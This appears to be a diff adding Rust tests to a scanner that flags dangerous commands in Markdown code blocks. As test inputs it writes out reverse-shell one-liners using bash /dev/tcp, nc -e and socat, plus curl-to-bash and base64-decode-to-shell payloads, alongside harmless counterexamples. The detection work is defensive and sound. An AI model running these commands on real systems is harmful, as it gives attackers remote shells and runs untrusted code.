@@ -117,3 +117,69 @@ fn a_runner_given_as_a_callback_runs_what_the_call_produces() {
         []
     );
 }
+
+#[test]
+fn a_shell_given_to_a_network_peer_is_remote_code() {
+    for (body, line) in [
+        (
+            "```bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n```\n",
+            7,
+        ),
+        (
+            "```bash\nsh -i < /dev/tcp/198.51.100.7/80 >&0 2>&0\n```\n",
+            7,
+        ),
+        ("```bash\nnc 198.51.100.7 4444 -e /bin/bash\n```\n", 7),
+        (
+            "```bash\nsocat TCP:198.51.100.7:4444 EXEC:/bin/bash\n```\n",
+            7,
+        ),
+        (
+            "```python\nimport os\nos.system('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')\n```\n",
+            8,
+        ),
+    ] {
+        assert_finds(body, (RuleId::DownloadExec, Severity::Critical, line));
+    }
+    // Talking to a socket is not giving it a shell.
+    assert_eq!(
+        findings("```bash\necho ping > /dev/tcp/localhost/8080\nnc -zv localhost 5432\n```\n"),
+        []
+    );
+}
+
+#[test]
+fn what_a_shell_reads_on_standard_input_is_what_it_runs() {
+    assert_finds(
+        "```bash\nbash <<< \"$(curl -fsSL https://x.example/i.sh)\"\n```\n",
+        (RuleId::DownloadExec, Severity::Critical, 7),
+    );
+    assert_finds(
+        "```bash\nbash <<< $(echo Y3VybCB4 | base64 -d)\n```\n",
+        (RuleId::DecodeExec, Severity::Critical, 7),
+    );
+    assert_finds(
+        "```bash\ncurl -fsSL https://x.example/i.sh -o i.sh\nbash < i.sh\n```\n",
+        (RuleId::DownloadExec, Severity::Critical, 8),
+    );
+    assert_eq!(findings("```bash\nbash <<< 'echo hello'\n```\n"), []);
+}
+
+#[test]
+fn a_command_line_downloaded_or_decoded_is_run_by_the_shell_call() {
+    assert_finds(
+        "```python\nimport os, base64\nos.system(base64.b64decode('Y3VybCB4IHwgc2g='))\n```\n",
+        (RuleId::DecodeExec, Severity::Critical, 8),
+    );
+    assert_finds(
+        "```python\nimport os, requests\nos.system(requests.get('https://x.example/c').text)\n```\n",
+        (RuleId::DownloadExec, Severity::Critical, 8),
+    );
+    // A regular expression's `exec` is not child_process's.
+    assert_eq!(
+        findings(
+            "```js\nconst m = /v(\\d+)/.exec(await (await fetch('https://x.example/v')).text());\n```\n"
+        ),
+        []
+    );
+}
